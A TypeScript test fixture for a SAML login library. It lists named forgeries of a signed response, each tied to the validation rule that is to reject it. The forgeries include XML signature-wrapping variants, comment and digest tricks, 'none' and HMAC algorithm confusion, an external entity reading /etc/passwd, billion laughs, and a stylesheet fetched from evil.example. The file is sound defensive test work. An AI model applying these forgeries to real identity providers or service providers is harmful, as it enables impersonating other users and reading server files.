// What an attacker makes of an honest response whose assertion is signed: each forgery by name, with the rule that is to
// refuse it. Mallory has signed in honestly, and wants to be Olga.
import { createHmac, randomUUID } from 'node:crypto';
import type { MadeKeyPair } from '../../src/saml/self-signed.ts';
import { signXml } from '../support/idp.ts';

/** What the attacker has: the provider's certificate, and a key pair of their own. */
export interface Keys {
  readonly certificate: string;
  readonly other: MadeKeyPair;
}

type Forge = (xml: string, keys: Keys) => string;

export const olga = (xml: string): string => xml.replaceAll('mallory', 'olga');
export const assertionOf = (xml: string): string => /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? '';
export const signatureOf = (xml: string): string => /<Signature[\s\S]*?<\/Signature>/.exec(xml)?.[0] ?? '';
export const idIn = (xml: string): string => /\sID="([^"]+)"/.exec(xml)?.[1] ?? '';

/** Olga's assertion, unsigned, with an id of its own. */
export function forged(signed: string): string {
  return olga(signed.replace(signatureOf(signed), '')).replace(idIn(signed), `_${randomUUID()}`);
}

export const put = (xml: string, assertions: string): string => xml.replace(assertionOf(xml), assertions);
const into = (outer: string, inner: string): string => outer.replace('</saml:Assertion>', `${inner}</saml:Assertion>`);
export const object = (inner: string): string =>
  `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${inner}</ds:Object>`;

/** The signature of somebody else over Olga's assertion, for its digest. */
function forgedDigest(xml: string, { other }: Keys): string {
  const signed = assertionOf(xml);
  return signXml(olga(signed.replace(signatureOf(signed), '')), 'Assertion', other);
}

/** Attack → the rule that refuses it, and what it makes of Mallory's honest response, whose assertion is signed. */
export const FORGERIES: Readonly<Record<string, readonly [string, Forge]>> = {
  'the signature taken off': ['signatureIsValid', (xml) => xml.replace(signatureOf(xml), '')],
  'a name changed after signing': ['signatureIsValid', olga],
  'a comment in a signed name': [
    'signatureIsValid',
    (xml) => xml.replace('mallory@acme', 'olga@acme.example<!-- -->.mallory@acme'),
  ],
  'wrapping (XSW 3): the forged one first, the signed one beside it': [
    'hasOneAssertion',
    (xml) => put(xml, forged(assertionOf(xml)) + assertionOf(xml)),
  ],
  'wrapping: the forged one last, the signed one beside it': [
    'hasOneAssertion',
    (xml) => put(xml, assertionOf(xml) + forged(assertionOf(xml))),
  ],
  'wrapping (XSW 4): the signed one inside the forged one': [
    'signatureIsValid',
    (xml) => put(xml, into(forged(assertionOf(xml)), assertionOf(xml))),
  ],
  'wrapping: the forged one carries the signature, the signed one inside it': [
    'signatureIsValid',
    (xml) => {
      const signed = assertionOf(xml);
      const bare = signed.replace(signatureOf(signed), '');
      return put(xml, forged(signed).replace('</saml:Issuer>', `</saml:Issuer>${signatureOf(signed)}${bare}`));
    },
  ],
  'wrapping (XSW 8): the signed one in an Object of the signature': [
    'signatureIsValid',
    (xml) => {
      const signed = assertionOf(xml);
      const bare = signed.replace(signatureOf(signed), '');
      const signature = signatureOf(signed).replace('</Signature>', `${object(bare)}</Signature>`);
      return put(xml, forged(signed).replace('</saml:Issuer>', `</saml:Issuer>${signature}`));
    },
  ],
  'wrapping (XSW 7): the signed one in Extensions of the response': [
    'signatureIsValid',
    (xml) => {
      const extensions = `<samlp:Extensions>${assertionOf(xml)}</samlp:Extensions>`;
      return put(xml, forged(assertionOf(xml))).replace('<samlp:Status>', `${extensions}<samlp:Status>`);
    },
  ],
  'wrapping (XSW 5): the forged one carries the signature, the signed one at the end': [
    'hasOneAssertion',
    (xml) => {
      const signed = assertionOf(xml);
      const bare = signed.replace(signatureOf(signed), '');
      return put(xml, forged(signed).replace('</saml:Issuer>', `</saml:Issuer>${signatureOf(signed)}`) + bare);
    },
  ],
  'wrapping (XSW 6): the signed one inside the signature of the forged one': [
    'signatureIsValid',
    (xml) => {
      const signed = assertionOf(xml);
      const bare = signed.replace(signatureOf(signed), '');
      const signature = signatureOf(signed).replace('</Signature>', `${bare}</Signature>`);
      return put(xml, forged(signed).replace('</saml:Issuer>', `</saml:Issuer>${signature}`));
    },
  ],
  'wrapping: both under one id': [
    'signatureIsValid',
    (xml) => {
      const signed = assertionOf(xml);
      const twin = olga(signed.replace(signatureOf(signed), ''));
      return put(xml, twin.replace('</saml:Issuer>', `</saml:Issuer>${signatureOf(signed)}${object(signed)}`));
    },
  ],
  'wrapping: the forged one under another namespace prefix': [
    'hasOneAssertion',
    (xml) => {
      const other = forged(assertionOf(xml)).replaceAll('saml:', 'x:').replaceAll('xmlns:saml', 'xmlns:x');
      return put(xml, other + assertionOf(xml));
    },
  ],
  'a second SignedInfo': [
    'signatureIsValid',
    (xml) => {
      const signedInfo = /<SignedInfo>[\s\S]*<\/SignedInfo>/.exec(xml)?.[0] ?? '';
      return olga(xml).replace(signedInfo, signedInfo + signedInfo.replace(/<DigestValue>[^<]*/, '<DigestValue>AAAA'));
    },
  ],
  'the forged digest, and the true one in a comment beside it': [
    'signatureIsValid',
    (xml, keys) => {
      const { [1]: theirs = '' } = /<DigestValue>([^<]*)/.exec(forgedDigest(xml, keys)) ?? [];
      return olga(xml).replace(/<DigestValue>([^<]*)/, `<DigestValue>${theirs}<!--$1-->`);
    },
  ],
  'the true digest, and the forged one in a comment before it': [
    'signatureIsValid',
    (xml, keys) => {
      const { [1]: theirs = '' } = /<DigestValue>([^<]*)/.exec(forgedDigest(xml, keys)) ?? [];
      return olga(xml).replace('<DigestValue>', `<DigestValue><!--${theirs}-->`);
    },
  ],
  'a transform of the attacker': [
    'signatureIsValid',
    (xml) =>
      xml.replace('</Transforms>', '<Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"/></Transforms>'),
  ],
  'the reference emptied': ['signatureIsValid', (xml) => olga(xml).replace(/URI="#[^"]*"/, 'URI=""')],
  'a reference that queries': ['libraryAccepts', (xml) => xml.replace(/URI="#[^"]*"/, `URI="#x' or '1'='1"`)],
  'a NONE algorithm': ['signatureAlgorithmIsStrong', (xml) => olga(xml).replace(/rsa-sha256/, 'none')],
  'HMAC with the public certificate as its key': [
    'signatureAlgorithmIsStrong',
    (xml, { certificate }) => {
      const signedInfo = /<SignedInfo>[\s\S]*<\/SignedInfo>/.exec(olga(xml))?.[0] ?? '';
      const confused = signedInfo.replace(/rsa-sha256/, 'hmac-sha256');
      const value = createHmac('sha256', certificate).update(confused).digest('base64');
      return olga(xml)
        .replace(signedInfo, confused)
        .replace(/<SignatureValue>[^<]*/, `<SignatureValue>${value}`);
    },
  ],
  'two responses in one': ['signatureIsValid', (xml) => xml.replace('</samlp:Response>', `${xml}</samlp:Response>`)],
  'two documents in one': ['isWellFormed', (xml) => put(xml, forged(assertionOf(xml))) + xml],
  'an id that is written twice': ['isWellFormed', (xml) => xml.replace(' ID="', ' ID="_other" ID="')],
  'a null character in a name': [
    'isWellFormed',
    (xml) => xml.replace('mallory@acme', 'olga@acme.example&#0;mallory@acme'),
  ],
  'an instruction in a name': [
    'hasNoDoctype',
    (xml) => xml.replace('mallory@acme', 'olga@acme.example<?x y?>.mallory@acme'),
  ],
  'an entity in a name': [
    'hasNoDoctype',
    (xml) => `<!DOCTYPE r [<!ENTITY o "olga">]>${xml.replace('>mallory@', '>&o;@')}`,
  ],
  'a billion laughs': [
    'hasNoDoctype',
    (xml) => {
      const levels = Array.from({ length: 12 }, (_, nth) => `<!ENTITY l${nth + 1} "${`&l${nth};`.repeat(10)}">`).join(
        '',
      );
      return `<!DOCTYPE r [<!ENTITY l0 "lol">${levels}]>${xml.replace('>mallory@', '>&l12;@')}`;
    },
  ],
  'an external entity': [
    'hasNoDoctype',
    (xml) => `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${xml.replace('>mallory@', '>&x;@')}`,
  ],
  'a style sheet': ['hasNoDoctype', (xml) => `<?xml-stylesheet href="https://evil.example/x.xsl"?>${xml}`],
  '2,000 namespace declarations': [
    'hasFewNamespaces',
    (xml) =>
      xml.replace(
        '<samlp:Response ',
        `<samlp:Response ${Array.from({ length: 2000 }, (_, nth) => `xmlns:n${nth}="urn:${nth}"`).join(' ')} `,
      ),
  ],
  '300 signatures': [
    'hasFewSignatures',
    (xml) => xml.replace('<samlp:Status>', `${signatureOf(xml).repeat(300)}<samlp:Status>`),
  ],
  '3,000 empty signatures': [
    'hasFewSignatures',
    (xml) =>
      xml.replace(
        '<samlp:Status>',
        `${'<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/>'.repeat(3000)}<samlp:Status>`,
      ),
  ],
  '10,000 elements deep': [
    'isFlat',
    (xml) => xml.replace('<samlp:Status>', `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}<samlp:Status>`),
  ],
  'comments that never end': ['tagsEnd', (xml) => `${xml}${'<!--'.repeat(100_000)}`],
};
